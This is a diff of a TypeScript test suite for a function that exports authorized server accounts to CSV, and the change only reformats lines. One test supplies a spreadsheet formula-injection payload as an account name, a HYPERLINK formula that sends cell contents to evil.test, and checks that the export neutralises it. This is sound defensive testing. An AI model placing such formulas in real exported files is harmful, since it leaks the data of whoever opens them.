@@ -15,7 +15,11 @@ const account = (overrides: Partial<AuthorizedAccount>): AuthorizedAccount => ({
 
 describe('renderServersCsv', () => {
   it('writes the header and one CRLF-terminated row per entry, with the roles spelled out', () => {
-    const csv = renderServersCsv([account({}), account({ role: 'sharepoint', kind: 'user', name: 'CORP\\svc-sp' }), account({ role: 'fci', kind: 'computer', name: 'CORP\\FS01$' })]);
+    const csv = renderServersCsv([
+      account({}),
+      account({ role: 'sharepoint', kind: 'user', name: 'CORP\\svc-sp' }),
+      account({ role: 'fci', kind: 'computer', name: 'CORP\\FS01$' }),
+    ]);
     expect(csv).toBe(
       'Account,Role,Object type,SID,Added by,Added on\r\n' +
         'CORP\\Exchange Servers,Exchange Server,Group,S-1-5-21-1-2-3-1105,CORP\\alice,2026-01-02T03:04:05.000Z\r\n' +
@@ -30,7 +34,9 @@ describe('renderServersCsv', () => {
 
   it('keeps a hostile account name inert in its own cell', () => {
     const csv = renderServersCsv([account({ name: '=HYPERLINK("http://evil.test/?"&A1,"Click")', addedBy: '@SUM(1+1)' })]);
-    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",Exchange Server,Group,S-1-5-21-1-2-3-1105,'@SUM(1+1),2026-01-02T03:04:05.000Z`);
+    expect(csv.split('\r\n')[1]).toBe(
+      `"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",Exchange Server,Group,S-1-5-21-1-2-3-1105,'@SUM(1+1),2026-01-02T03:04:05.000Z`,
+    );
   });
 });
 
